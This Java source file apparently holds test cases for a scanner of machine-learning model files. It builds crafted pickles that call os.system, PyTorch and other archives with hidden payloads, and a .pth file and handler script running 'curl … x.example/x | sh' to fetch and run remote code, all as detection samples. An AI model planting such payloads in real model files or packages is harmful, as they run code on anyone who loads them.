package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;
import static dev.bartizan.artifacts.PickleParts.tuple;

import dev.bartizan.artifacts.PickleParts.Part;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Pickles in streams and containers that readers take apart in different ways, and archives that
/// promise what they do not hold.
final class StreamTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        StreamTrials trials = new StreamTrials();
        trials.streams();
        trials.containers();
        trials.promises();
        return trials.all;
    }

    private void benign(String name, Part part) {
        all.add(Trial.benign("pickle/" + name, "m.pkl", pickle(part)));
    }

    private void streams() {
        byte[] plain = pickle(dict(text("a"), number(1)));
        all.add(Trial.bad("stream/second", "m.pkl", joined(plain, PAYLOAD)));
        all.add(
                Trial.bad(
                        "stream/third-old",
                        "m.pkl",
                        joined(plain, plain, utf8("cos\nsystem\n(S'id'\ntR."))));
        all.add(Trial.bad("stream/after-zeros", "m.pkl", joined(plain, new byte[64], PAYLOAD)));
        all.add(
                Trial.bad(
                        "stream/before-broken",
                        "m.pkl",
                        joined(
                                java.util.Arrays.copyOf(PAYLOAD, PAYLOAD.length - 1),
                                new byte[] {(byte) 0xff})));
        all.add(Trial.bad("stream/inst", "m.pkl", utf8("(S'id'\nios\nsystem\n.")));
        all.add(Trial.bad("stream/obj", "m.pkl", utf8("(cos\nsystem\nS'id'\no.")));
        all.add(Trial.bad("stream/obj-pop", "m.pkl", utf8("(cos\nsystem\nS'id'\no0N.")));
        all.add(Trial.bad("stream/wrong-extension", "weights.dat", PAYLOAD));
        all.add(Trial.bad("stream/in-text-file", "notes.txt", utf8("cos\nsystem\n(S'id'\ntR.")));
        all.add(
                Trial.notClean(
                        "stream/no-stop",
                        "m.pkl",
                        java.util.Arrays.copyOf(plain, plain.length - 1)));
        all.add(Trial.notClean("stream/legacy-cut", "m.pt", java.util.Arrays.copyOf(legacy(), 16)));
        for (int cut = 20; cut < legacy().length; cut += 9) {
            all.add(
                    Trial.notClean(
                            "stream/legacy-cut-" + cut,
                            "m.pt",
                            java.util.Arrays.copyOf(legacy(), cut)));
        }
        all.add(Trial.benign("stream/legacy", "m.pt", legacy()));
        all.addAll(storages());
    }

    private static byte[] magic() {
        return Pickles.protocol(2)
                .op(0x8a)
                .op(10)
                .raw(
                        new byte[] {
                            0x6c,
                            (byte) 0xfc,
                            (byte) 0x9c,
                            0x46,
                            (byte) 0xf9,
                            0x20,
                            0x6a,
                            (byte) 0xa8,
                            0x50,
                            0x19
                        })
                .stop();
    }

    private static byte[] version() {
        return Pickles.protocol(2).op('M').op(0xe9).op(3).stop();
    }

    /// PyTorch before 1.6: a magic number, a protocol, the system, an object, the storages' keys.
    /// What plain pickling makes of a tensor: its storage as a file of PyTorch of old.
    private static Trial storage(String name, boolean isHonest, byte[] file) {
        byte[] pickle =
                Pickles.protocol(2)
                        .global("torch.storage", "_load_from_bytes")
                        .bytes(file)
                        .op(0x85)
                        .op('R')
                        .stop();
        return isHonest
                ? Trial.benign("stream/" + name, "m.pkl", pickle)
                : Trial.malicious("stream/" + name, "m.pkl", pickle);
    }

    private static List<Trial> storages() {
        byte[] file = onlyStorage(false);
        byte[] named =
                Pickles.protocol(2)
                        .global("torch.storage", "_load_from_bytes")
                        .op('0')
                        .op('N')
                        .stop();
        return List.of(
                storage("storage-pickled", true, file),
                storage("storage-pickled-with-a-call", false, onlyStorage(true)),
                storage("storage-cut", false, java.util.Arrays.copyOf(file, file.length - 60)),
                storage("storage-is-a-pickle", false, Pickles.calling("os", "system")),
                Trial.bad("stream/storage-loader-held", "m.pkl", named));
    }

    private static byte[] onlyStorage(boolean calls) {
        Pickles object = Pickles.protocol(2);
        if (calls) {
            object.call("os", "system", "id").op('0');
        }
        object.op('(').text("storage").global("torch", "FloatStorage").text("0").text("cpu");
        object.op('K').op(2).op('N').op('t').op('Q');
        return joined(
                magic(),
                version(),
                Pickles.protocol(2).op('}').stop(),
                object.stop(),
                Pickles.protocol(2).op(']').text("0").op('a').stop(),
                Pickles.protocol(0).int64(2).int64(0x3f80_0000_3f80_0000L).bytes());
    }

    static byte[] legacy() {
        byte[] system =
                Pickles.protocol(2)
                        .ops("}(")
                        .text("little_endian")
                        .op(0x88)
                        .text("protocol_version")
                        .op('M')
                        .op(0xe9)
                        .op(3)
                        .op('u')
                        .stop();
        byte[] object = Pickles.protocol(2).ops("}.").bytes();
        byte[] keys = Pickles.protocol(2).ops("].").bytes();
        return joined(magic(), version(), system, object, keys);
    }

    private void containers() {
        all.add(
                Trial.bad(
                        "container/torch-odd-name",
                        "m.pt",
                        Scans.zip(Map.of("m/data.pkl", pickle(dict()), "m/config.p", PAYLOAD))));
        all.add(
                Trial.bad(
                        "container/torch-storage",
                        "m.pt",
                        Scans.zip(Map.of("m/data.pkl", pickle(dict()), "m/data/0", PAYLOAD))));
        all.add(
                Trial.bad(
                        "container/torch-package",
                        "m.pt",
                        Scans.zip(
                                Map.of(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("os\nsubprocess\n"),
                                        "p/mod.py",
                                        utf8("import os\nos.system('id')\n"),
                                        "p/model/model.pkl",
                                        pickle(dict())))));
        all.add(
                Trial.bad(
                        "container/npz-object",
                        "m.npz",
                        Scans.zip(Map.of("a.npy", FormatScanTest.npy("'|O'", "(1,)", PAYLOAD)))));
        all.add(
                Trial.bad(
                        "container/zip-in-tar",
                        "m.nemo",
                        FormatScanTest.tar("a.zip", '0', "", Scans.zip(Map.of("x.pkl", PAYLOAD)))));
        all.add(
                Trial.bad(
                        "container/pth-in-wheel",
                        "m.whl",
                        Scans.zip(
                                Map.of(
                                        "a.pth",
                                        utf8(
                                                "import os; os.system('curl -s https://x.example/x | sh')\n"),
                                        "a-1.dist-info/METADATA",
                                        utf8("Name: a\n")))));
        all.add(
                Trial.bad(
                        "container/jar-in-model",
                        "m.mar",
                        Scans.zip(
                                Map.of(
                                        "MAR-INF/MANIFEST.json",
                                        utf8(
                                                "{\"model\":{\"modelName\":\"x\",\"handler\":\"h.py\"}}"),
                                        "h.py",
                                        utf8(
                                                "import os\nos.system('curl https://x.example/x | sh')\n")))));
    }

    /// Archives that lack what their framework reads first, and texts that ask to be rebuilt.
    private void promises() {
        byte[] handler = utf8("x = 1\n");
        byte[] manifest = utf8("{\"model\":{\"modelName\":\"m\",\"handler\":\"missing.py\"}}");
        all.add(
                Trial.notClean(
                        "promise/mar-without-handler",
                        "m.mar",
                        Scans.zip(Map.of("MAR-INF/MANIFEST.json", manifest, "h.py", handler))));
        all.add(
                Trial.notClean(
                        "promise/mar-without-manifest",
                        "m.mar",
                        Scans.zip(Map.of("h.py", handler))));
        all.add(
                Trial.notClean(
                        "promise/keras-without-configuration",
                        "m.keras",
                        Scans.zip(Map.of("metadata.json", utf8("{}")))));
        all.add(
                Trial.bad(
                        "promise/msgpack-class",
                        "m.msgpack",
                        joined(
                                new byte[] {(byte) 0x81, (byte) 0xa9},
                                utf8("__class__"),
                                new byte[] {(byte) 0xa9},
                                utf8("os.system"))));
        all.add(
                Trial.bad(
                        "promise/skops-card",
                        "m.skops",
                        Scans.zip(
                                Map.of(
                                        "schema.json", utf8("{\"version\":\"1.0\"}"),
                                        "README.md", utf8("Use joblib.load() when that fails.")))));
        benign("signal-number", call("signal:Signals", number(15)));
        benign("socket-family", call("socket:AddressFamily", number(2)));
        benign(
                "out-of-band",
                call(
                        "numpy._core.numeric:_frombuffer",
                        pickle -> pickle.op(0x97),
                        text("f4"),
                        tuple(number(1)),
                        text("C")));
    }
}
